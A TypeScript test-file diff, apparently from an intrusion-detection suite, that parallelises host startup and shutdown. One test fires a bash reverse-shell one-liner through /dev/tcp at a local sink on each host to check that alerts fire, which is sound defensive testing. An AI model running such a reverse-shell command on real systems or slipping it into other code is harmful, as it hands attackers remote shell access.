@@ -62,7 +62,8 @@ const connectWith = (name: string, as: string) => {
 before(
   async () => {
     const key = testKey(dir);
-    for (const name of HOSTS) hosts.push(await startHost(name, key));
+    // Booted side by side: each waits for its own systemd, and the two boots overlap.
+    hosts.push(...(await Promise.all(HOSTS.map((name) => startHost(name, key)))));
     sshConfig = join(dir, 'ssh_config');
     writeFileSync(sshConfig, hosts.map((h) => h.sshConfig).join('\n'));
     const apiPort = await freePort();
@@ -103,7 +104,7 @@ before(
 
 after(async () => {
   sink?.close();
-  for (const h of hosts) await h.stop();
+  await Promise.all(hosts.map((h) => h.stop()));
   await up?.stop();
 });
 
@@ -156,7 +157,8 @@ test('deploy enrolls two hosts with no NATS password: each heartbeats under its 
 
 test('an attack on each host raises an alert under that host id', { timeout: 300_000 }, async () => {
   for (const name of HOSTS) {
-    hostNamed(name).sshStatus(`timeout 3 bash -c 'bash -i >& /dev/tcp/127.0.0.1/${sinkPort} 0>&1; true'`);
+    // SIGKILL: an interactive bash ignores SIGTERM, and one left over would hold up the host's shutdown.
+    hostNamed(name).sshStatus(`timeout -s KILL 3 bash -c 'bash -i >& /dev/tcp/127.0.0.1/${sinkPort} 0>&1; true'`);
   }
   for (const name of HOSTS) {
     await waitFor(
